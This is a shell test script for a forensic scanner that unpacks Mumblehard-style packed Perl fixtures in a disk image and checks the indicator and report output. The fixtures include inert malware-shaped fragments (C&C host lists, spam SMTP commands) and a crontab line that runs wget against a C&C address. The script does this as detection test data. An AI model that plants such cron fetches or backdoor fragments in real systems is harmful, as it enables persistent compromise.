#!/bin/bash
# unpack.sh - static unpacking of packed fixtures inside an image: the
# recovered script's kind, hash and indicators (decoys marked), the
# verdict, --extract (one file per script, named by hash, mode 0600, never
# next to the evidence), nothing written without --extract, and a crontab
# that fetches from ESET's C&C address.
. "$(dirname "$0")/lib.sh"

mkdir -p "$SCRATCH/spec" "$SCRATCH/evidence" "$SCRATCH/run" "$SCRATCH/rep"

# A fake C&C list (facts §4) in an inert Perl text; nothing here runs.
cat >"$SCRATCH/spec/cc.pl" <<'PERL'
#!/usr/bin/perl
# mumblescan test fixture: inert text shaped like the Mumblehard backdoor
use strict;
my @cc = ('194.54.81.163', 'advertise.com', 'behance.net', 'seoratingonlyup.net');
my $ua = 'Mozilla/5.0 (Windows NT 6.1; rv:7.0.1) Gecko/2.0.11 Firefox/7.0.1';
sub parse { my $h = shift; return unless $h =~ /HTTP\/1.0 200 OK/ && $h =~ /Connection: close/;
  return $1 if $h =~ /Set-Cookie: PHPSESSID=([^;\r\n]+)/; }
my ($EWB, $EIP) = $^O eq 'MSWin32' ? (10035, 10036) : $^O eq 'freebsd' ? (35, 36) : (11, 115);
print "inert\n";
PERL
cat >"$SCRATCH/spec/spam.pl" <<'PERL'
#!/usr/bin/perl
# mumblescan test fixture: inert text shaped like the spamming daemon
$0 = "httpd";
sub send_one { my ($s, $from, $to) = @_; print $s "EHLO localhost\r\n";
  print $s "MAIL FROM:<$from>\r\n"; print $s "RCPT TO:<$to>\r\n"; print $s "DATA\r\n"; }
print "inert\n";
PERL
cat >"$SCRATCH/spec/unpack.spec" <<'SPEC'
now 2015-05-01T00:00:00Z
default-time 2015-01-10T08:00:00Z
dir /var/spool/cron/crontabs 1730
file /var/spool/cron/crontabs/www-data 0600 text "*/15 * * * * /var/tmp/qCVwOWA >/dev/null 2>&1\n"
owner /var/spool/cron/crontabs/www-data 33 102
file /var/spool/cron/crontabs/root 0600 text "# updater\n30 3 * * * wget -q -O- http://194.54.81.163/u.txt >/dev/null 2>&1\n"
dir /var/tmp 1777
file /var/tmp/qCVwOWA 0755 packed --key 4 --script cc.pl
time /var/tmp/qCVwOWA 2015-04-07T10:00:00Z
dir /tmp 1777
file /tmp/sPaMdAe 0755 packed --key 32 --osabi 9 --form 89f7 --gap 3 --script spam.pl
file /tmp/tRuNcAt 0755 packed --key 4 --truncate 240
file /tmp/scraper.sh 0755 text "#!/bin/sh\ncurl -A 'Mozilla/5.0 (Windows NT 6.1; rv:7.0.1) Gecko/20100101 Firefox/7.0.1' https://example.org/\n"
SPEC

build evidence/unpack.img --spec "$SCRATCH/spec/unpack.spec" --layout bare
IMG=$SCRATCH/evidence/unpack.img
cc_sha=$(sha256sum <"$SCRATCH/spec/cc.pl" | cut -d' ' -f1)
cc_size=$(stat -c %s "$SCRATCH/spec/cc.pl")
spam_sha=$(sha256sum <"$SCRATCH/spec/spam.pl" | cut -d' ' -f1)

# Everything but the report directory: the evidence, the spec, the
# scanner's working directory and the (not yet existing) extract dir.
listing() { (cd "$SCRATCH" && find . -path ./rep -prune -o -print | sort); }

# ---- without --extract nothing is written ------------------------------
listing >"$SCRATCH/rep/listing.before"
J=$SCRATCH/rep/plain.json
cd "$SCRATCH/run" || die "cd"
run_scan "$J" -f json "$IMG"
cd - >/dev/null || die "cd"
expect_rc 1 "infected image"
listing >"$SCRATCH/rep/listing.after"
check "a scan without --extract writes nothing (directory listing changed)" \
    cmp -s "$SCRATCH/rep/listing.before" "$SCRATCH/rep/listing.after"

json_valid "$J" "unpack image"
jqt "verdict malicious" "$J" '.summary.verdict == "malicious"'
B='.findings[] | select(.path == "/var/tmp/qCVwOWA")'
jqt "backdoor unpacked" "$J" "[$B | .unpacked.status] == [\"unpacked\"]"
jqt "backdoor interpreter" "$J" "[$B | .unpacked.interpreter] == [\"/usr/bin/perl\"]"
jqt "backdoor kind" "$J" "[$B | .unpacked.kind] == [\"backdoor\"]"
jqt "backdoor key 4, limit/wrap/step" "$J" \
    "[$B | .unpacked | [.key, .limit, .wrap, .step]] == [[4, 16, 128, 16]]"
jqt "backdoor script hash and size" "$J" --arg h "$cc_sha" --argjson n "$cc_size" \
    "[$B | .unpacked | .sha256 == \$h and .script_size == \$n] == [true]"
jqt "backdoor features cite PHPSESSID" "$J" \
    "[$B | .unpacked.features[] | select(test(\"PHPSESSID\"))] | length == 1"
jqt "194.54.81.163 is a known, non-decoy indicator" "$J" \
    "[$B | .unpacked.indicators[] | select(.type == \"ipv4\" and .value == \"194.54.81.163\" and .class == \"known\" and .decoy == false)] | length == 1"
for d in advertise.com behance.net; do
    jqt "$d marked decoy" "$J" --arg d "$d" \
        "[$B | .unpacked.indicators[] | select(.value == \$d and .decoy == true and .class == \"decoy\")] | length == 1"
    jqt "$d not flagged in any reason" "$J" --arg d "$d" \
        "all(.findings[].reasons[]; .text | contains(\$d) | not)"
done
jqt "UA is a known indicator" "$J" \
    "[$B | .unpacked.indicators[] | select(.type == \"user_agent\" and .class == \"known\")] | length == 1"
jqt "other C&C host listed, not graded" "$J" \
    "[$B | .unpacked.indicators[] | select(.value == \"seoratingonlyup.net\" and .class == \"other\")] | length == 1"
has_reason "$J" /var/tmp/qCVwOWA UNPACKED_SCRIPT
has_reason "$J" /var/tmp/qCVwOWA C2_INDICATOR
has_reason "$J" /var/tmp/qCVwOWA UNPACKED_SCRIPT_YARA
jqt "script YARA: backdoor and network rules" "$J" \
    "[$B | .unpacked.yara[].rule] | (any(.[]; . == \"Mumblehard_Perl_Backdoor\") and any(.[]; . == \"Mumblehard_Net_UserAgent_GeckoVersion\"))"
jqt "nothing extracted without --extract" "$J" "[$B | .unpacked.extracted] == [null]"

S='.findings[] | select(.path == "/tmp/sPaMdAe")'
jqt "spam daemon unpacked (FreeBSD ABI, 89f7, mov bl)" "$J" \
    "[$S | .unpacked | .status, .kind, .key, .sha256] == [\"unpacked\", \"spam_daemon\", 32, \"$spam_sha\"]"
jqt "spam daemon ELF OS ABI 9" "$J" "[$S | .elf.osabi] == [9]"

T='.findings[] | select(.path == "/tmp/tRuNcAt")'
jqt "truncated stub: packer matched, unpack failed" "$J" \
    "[$T | .unpacked.status == \"failed\" and (.unpacked.failure | length > 0) and .unpacked.sha256 == null] == [true]"
has_reason "$J" /tmp/tRuNcAt UNPACK_FAILED

jqt "common UA alone is not a finding" "$J" \
    'all(.findings[]; .path != "/tmp/scraper.sh")'
jqt "common UA noted as info" "$J" \
    'any(.examined[]; .path == "/tmp/scraper.sh" and any(.reasons[]; .code == "YARA_INFO") and .unpacked == null)'

jqt "crontab fetching from 194.54.81.163 has a C2_INDICATOR reason" "$J" \
    'any(.crontabs[]; .path == "/var/spool/cron/crontabs/root" and any(.reasons[]; .code == "C2_INDICATOR" and .severity == "malicious" and (.text | contains("line 2"))))'
jqt "its job too" "$J" \
    'any(.cron_jobs[]; (.command | contains("194.54.81.163")) and any(.reasons[]; .code == "C2_INDICATOR"))'
jqt "clean crontab has no reasons" "$J" \
    'all(.crontabs[]; .path != "/var/spool/cron/crontabs/www-data" or (.reasons | length == 0))'
jqt "summary counts cron findings" "$J" '.summary.cron_findings == 2'

# ---- text report -------------------------------------------------------
run_scan "$SCRATCH/rep/plain.txt" "$IMG"
expect_rc 1 "text report"
check "text report marks decoys" grep -q 'behance.net .*decoy (legitimate site), not flagged' "$SCRATCH/rep/plain.txt"
check "text report shows the interpreter" grep -q 'interpreter *\/usr\/bin\/perl' "$SCRATCH/rep/plain.txt"
check "text report shows the failure" grep -q 'packer matched, unpack failed' "$SCRATCH/rep/plain.txt"

# ---- HTML report -------------------------------------------------------
run_scan "$SCRATCH/rep/r.html" -f html "$IMG"
expect_rc 1 "html report"
check "html shows the unpacked payload" grep -q '<h3>Unpacked payload</h3>' "$SCRATCH/rep/r.html"
check "html lists the decoy indicator as a decoy" \
    grep -q '<code>behance.net</code></td><td>host</td><td>decoy' "$SCRATCH/rep/r.html"
check "html shows the crontab's C&C reason" grep -q 'C2_INDICATOR' "$SCRATCH/rep/r.html"

# ---- --extract -----------------------------------------------------------
OUT=$SCRATCH/extracted
run_scan "$SCRATCH/rep/x.json" -f json --extract "$OUT" "$IMG"
expect_rc 1 "--extract"
check "--extract writes exactly two scripts" test "$(find "$OUT" -mindepth 1 | wc -l)" -eq 2
check "backdoor script named by hash, same bytes" cmp -s "$OUT/$cc_sha.pl" "$SCRATCH/spec/cc.pl"
check "spam script named by hash, same bytes" cmp -s "$OUT/$spam_sha.pl" "$SCRATCH/spec/spam.pl"
check "extracted scripts are mode 0600" test "$(stat -c %a "$OUT/$cc_sha.pl")" = 600
jqt "report names the extracted path" "$SCRATCH/rep/x.json" --arg p "$OUT/$cc_sha.pl" \
    "[$B | .unpacked.extracted] == [\$p]"
# a second run finds the files in place and keeps them
run_scan "$SCRATCH/rep/x2.json" -f json --extract "$OUT" "$IMG"
expect_rc 1 "--extract again"
check "second --extract leaves two files" test "$(find "$OUT" -mindepth 1 | wc -l)" -eq 2
check "second --extract keeps the content" cmp -s "$OUT/$cc_sha.pl" "$SCRATCH/spec/cc.pl"

# never next to the evidence
listing >"$SCRATCH/rep/listing.before"
run_scan "$SCRATCH/rep/bad.out" --extract "$SCRATCH/evidence/x" "$IMG"
expect_rc 2 "--extract in the evidence directory"
one_error_line "$SCRATCH/rep/bad.out.err" "--extract in the evidence directory"
run_scan "$SCRATCH/rep/bad2.out" --extract "$SCRATCH/evidence" "$IMG"
expect_rc 2 "--extract = the evidence directory"
listing >"$SCRATCH/rep/listing.after"
check "refused --extract created nothing" cmp -s "$SCRATCH/rep/listing.before" "$SCRATCH/rep/listing.after"

finish
